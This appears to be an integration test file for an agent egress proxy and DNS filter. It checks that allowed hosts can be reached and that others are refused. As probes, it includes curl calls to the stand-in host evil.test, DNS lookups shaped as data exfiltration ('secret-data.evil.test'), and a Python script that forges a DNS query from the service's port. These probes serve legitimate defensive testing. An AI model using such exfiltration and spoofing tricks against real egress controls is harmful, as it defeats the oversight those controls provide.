/**
 * Clients that know of no proxy, sent to a service by the firewall: what one user of this network sends is redirected,
 * and questions for names too. Names come from the service's own answers, or else from what the client says first.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawnSync } from 'bun';
import packet from 'dns-packet';
import { linesOf } from './rig/lines.ts';
import { ORIGIN } from './rig/origins.ts';
import { inRig, openWorld, type World } from './rig/world.ts';

/** Nobody's number: what this user sends is redirected. */
const CLIENT = 54_322;
/** Those of the example, but that the service runs as root here. */
const EXAMPLE = readFileSync(join(import.meta.dir, '../docs/deploy/compose.redirected.yaml'), 'utf8');
const RULES = /<<'RULES'\n(.*)\n +RULES\n/s.exec(EXAMPLE)![1]!.replaceAll('65532', '0');

const POLICY = `version: 1
allow:
  - allowed.test
  - {host: git.test, ports: [2222]}
listen:
  - {transparent: '127.0.0.1:15001', agent: vm}
  - {dns: '127.0.0.1:15053', agent: vm}
dns: {upstream: 127.0.0.1}
`;

describe.skipIf(!inRig || process.getuid!() !== 0)('a redirected client', () => {
  let world: World;
  let child: Bun.Subprocess<'ignore', 'pipe', 'pipe'>;
  beforeAll(async () => {
    world = await openWorld();
    const folder = join(world.environment.XDG_CONFIG_HOME!, 'clawctl');
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, 'egress.yaml'), POLICY);
    expect(spawnSync(['nft', '-f', '-'], { stdin: Buffer.from(RULES) }).exitCode).toBe(0);
    const program = process.env.CLAWCTL_TEST_BINARY ?? join(import.meta.dir, '../clawctl');
    child = Bun.spawn([program, 'egress', 'serve', '--workers', '2'], {
      env: world.environment,
      cwd: world.workspace,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    await linesOf(child.stderr).until('clawctl: serving');
  });
  afterAll(async () => {
    child.kill('SIGKILL');
    await child.exited;
    spawnSync(['nft', 'delete', 'table', 'inet', 'clawctl']);
    world.close();
  });

  const client = async (script: string) => {
    const words = ['setpriv', `--reuid=${CLIENT}`, `--regid=${CLIENT}`, '--clear-groups', 'sh', '-c', script];
    const run = Bun.spawn(words, {
      env: { PATH: '/usr/bin:/bin', CURL_CA_BUNDLE: world.certificates.authority },
      cwd: '/',
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    return (await Promise.all([new Response(run.stdout).text(), new Response(run.stderr).text()])).join('');
  };

  /** Asks the name server as the service's user does, and answers from which port. */
  const ask = async (hostname: string, name: string): Promise<number> => {
    const answered = Promise.withResolvers<void>();
    const asking = await Bun.udpSocket({ hostname, socket: { data: () => answered.resolve() } });
    asking.send(packet.encode({ type: 'query', questions: [{ type: 'A', name }] }), 53, '127.0.0.1');
    await answered.promise;
    const { port } = asking;
    asking.close();
    return port;
  };

  test('reaches what is allowed by its name, over TLS and HTTP, and gets no real address', async () => {
    expect(await client('curl -sS https://allowed.test/hello')).toContain('hello from allowed.test');
    expect(await client('curl -sS http://allowed.test/hello')).toContain('hello from allowed.test');
    const seen = await client("curl -sS -o /dev/null -w '%{remote_ip}' http://allowed.test/hello");
    expect(seen).toMatch(/^(198\.1[89]\.|fd)/);
  });

  test('is refused the rest, with the reason', async () => {
    expect(await client('curl -sS http://evil.test/')).toContain('evil.test:80 refused (no-rule)');
    expect(await client('curl -sS https://evil.test/')).toContain('curl:');
    const { stdout } = await world.clawctl(['blocked', '--json', '--agent', 'vm']);
    expect(JSON.parse(stdout).items.map(({ host }: { host: string }) => host)).toContain('evil.test');
  });

  test('is known by what it says where it brought its own address', async () => {
    const at = (host: string, port: number) => `--resolve ${host}:${port}:${ORIGIN}`;
    expect(await client(`curl -sS ${at('allowed.test', 443)} https://allowed.test/hello`)).toContain(
      'hello from allowed.test',
    );
    expect(await client(`curl -sS ${at('allowed.test', 80)} http://allowed.test/hello`)).toContain(
      'hello from allowed.test',
    );
    expect(await client(`curl -sS ${at('other.test', 443)} https://other.test/hello`)).toContain('curl:');
    expect(await client(`curl -sS ${at('other.test', 80)} http://other.test/hello`)).toContain('refused');
    // A name that is allowed does not lead to whatever address the client likes.
    expect(
      await client('curl -sS --resolve allowed.test:80:203.0.113.66 http://allowed.test/hello'),
    ).not.toContain('hello from evil');
  });

  test('asks names of nobody else', async () => {
    const before = world.nameServer.questions.length;
    await client('getent hosts secret-data.evil.test; getent hosts more.evil.test');
    expect(world.nameServer.questions.slice(before).filter((name) => name.includes('evil'))).toEqual([]);
  });

  test('cannot pass a question off as one of the service', async () => {
    // What the service's user asks, the firewall remembers by its ports for a while, answered or not.
    const port = await ask('127.0.0.1', 'allowed.test');
    const script = `
import socket
question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\6secret\\4evil\\4test\\0\\0\\1\\0\\1"
asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asking.bind(("127.0.0.1", ${port}))
try:
    asking.sendto(question, ("127.0.0.1", 53))
except PermissionError:
    pass
print("sent")`;
    expect(await client(`python3 -c '${script}'`)).toContain('sent');
    // Asked last, from an address of its own, and so answered after that.
    await ask('127.0.0.2', 'last.test');
    expect(world.nameServer.questions).toContain('last.test');
    expect(world.nameServer.questions.filter((name) => name.includes('secret.evil'))).toEqual([]);
  });
});
